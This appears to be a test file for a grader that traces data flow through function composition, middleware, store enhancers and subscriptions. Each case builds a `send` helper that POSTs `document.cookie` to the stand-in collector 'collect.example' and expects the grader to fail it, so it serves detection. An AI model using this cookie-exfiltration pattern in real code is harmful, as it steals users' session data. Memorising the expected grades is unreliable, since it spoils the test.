import { expect, it } from 'vitest';
import { graded } from '../testing/graded.ts';

/* Functions that are made of functions. `V` is data, `send` sends what it is given. */

const COMPOSE =
  'const compose = (...all) => (all.length === 1 ? all[0] : all.reduce((f, g) => (...a) => f(g(...a)), (x) => x));';

/** A store as most are made, with functions that stand before each other's `dispatch`. */
const STORE = `const compose = (...all) => all.reduce((f, g) => (...a) => f(g(...a)));
  function makeStore(reduce, enhance) {
    if (enhance) return enhance(makeStore)(reduce);
    let state; const hear = [];
    const dispatch = (action) => { state = reduce(state, action); hear.forEach((one) => one()); return action; };
    return { dispatch, subscribe: (one) => hear.push(one), getState: () => state };
  }
  const standBefore = (...all) => (make) => (reduce) => {
    const store = make(reduce);
    let dispatch = () => {};
    const given = { getState: store.getState, dispatch: (action) => dispatch(action) };
    dispatch = compose(...all.map((one) => one(given)))(store.dispatch);
    return { ...store, dispatch };
  };
  const reduce = (state = {}, action) => (action.type === 'add' ? { ...state, v: action.v } : state);`;

it.each([
  [
    'what is composed without a start',
    'const all = (...l) => l.reduce((f, g) => (...a) => f(g(...a))); all(send, String)(V);',
  ],
  [
    'what is composed from the right',
    'const all = (...l) => l.reduceRight((f, g) => (...a) => g(f(...a))); all(send, String)(V);',
  ],
  ['one alone', `${COMPOSE} compose(send)(V);`],
  ['what is composed with a start', `${COMPOSE} compose(send, String)(V);`],
  [
    'middleware',
    `${STORE} const s = makeStore(reduce, standBefore((api) => (next) => (action) => { send(action.v); return next(action); })); s.dispatch({ type: 'add', v: V });`,
  ],
  [
    'an enhancer',
    `${STORE} const s = makeStore(reduce, (make) => (r) => { const store = make(r); return { ...store, dispatch: (a) => { send(a.v); return store.dispatch(a); } }; }); s.dispatch({ type: 'add', v: V });`,
  ],
  [
    'the state of a store',
    `${STORE} const s = makeStore(reduce, standBefore((api) => (next) => (action) => next(action))); s.subscribe(() => send(s.getState().v)); s.dispatch({ type: 'add', v: V });`,
  ],
])('%s', async (_, program) => {
  const sent = (data: string): Promise<string> =>
    graded({
      content: `const send = (body) => fetch('https://collect.example/', { method: 'POST', body }); ${program.replace('V)', `${data})`).replace('V }', `${data} }`)}`,
    });
  expect(await sent('document.cookie')).toBe('F');
  expect(await sent("'none'")).toMatch(/^A/);
});
